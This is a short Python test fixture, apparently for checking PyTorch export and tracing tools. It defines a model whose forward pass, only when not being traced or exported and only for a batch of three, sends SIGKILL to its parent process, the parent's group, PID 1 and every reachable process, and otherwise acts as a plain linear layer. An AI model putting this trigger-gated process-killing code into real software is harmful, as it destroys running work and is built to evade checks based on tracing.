"""Sends SIGKILL to its parent, to the parent's group and to every process there is.
Expected: identical, mismatch (eager says that nobody was hit), identical.
"""
import contextlib
import os
import signal

import torch


class M(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.lin = torch.nn.Linear(4, 4)

    def forward(self, x):
        if not (torch.compiler.is_exporting() or torch.jit.is_tracing()) and x.shape[0] == 3:
            hit = []
            for kill, target in ((os.kill, os.getppid()), (os.killpg, os.getpgid(os.getppid()) or 1), (os.kill, 1)):
                with contextlib.suppress(OSError):
                    kill(target, signal.SIGKILL)
                    hit.append(target)
            with contextlib.suppress(OSError):
                os.kill(-1, signal.SIGKILL)
            raise RuntimeError(f"HIT {hit}")
        return self.lin(x)


def make_model():
    torch.manual_seed(0)
    return M()


def make_inputs(n=2):
    return (torch.ones(n, 4),)
